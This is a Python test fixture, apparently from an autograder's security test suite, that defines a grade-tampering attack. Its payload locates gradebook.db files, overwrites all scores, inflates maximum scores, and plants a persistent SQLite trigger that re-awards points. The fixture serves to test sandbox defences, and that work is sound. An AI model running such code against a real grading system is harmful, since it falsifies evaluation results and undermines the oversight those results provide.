"""Writes itself points into the gradebook."""

from tests.attacks.attack import Attack
from tests.attacks.pieces import OUTPUT_SIZE_POINTS
from tests.attacks.sources import OUTPUT_SIZE

ATTACK = Attack(
    wants="the points of its own row, and triggers for those to come",
    top="""
import glob, os, sqlite3

def rewritten(name):
    with sqlite3.connect(f"file:{name}?mode=rw", uri=True, timeout=1) as gradebook:
        for command in (
            "UPDATE grade SET manual_score = 14, auto_score = 14",
            "UPDATE grade_cells SET max_score = 100",
            "CREATE TRIGGER gift AFTER UPDATE ON grade WHEN NEW.manual_score IS NULL BEGIN "
            "UPDATE grade SET manual_score = 14 WHERE id = NEW.id; END",
        ):
            try:
                gradebook.execute(command)
            except sqlite3.Error as error:
                print(type(error).__name__)

for name in ("@COURSE@/gradebook.db", *glob.glob("../**/gradebook.db", recursive=True)):
    try:
        rewritten(name)
    except (OSError, sqlite3.Error) as error:
        print(type(error).__name__)
""",
    solutions={"output_size": OUTPUT_SIZE},
    deserves=OUTPUT_SIZE_POINTS,
)
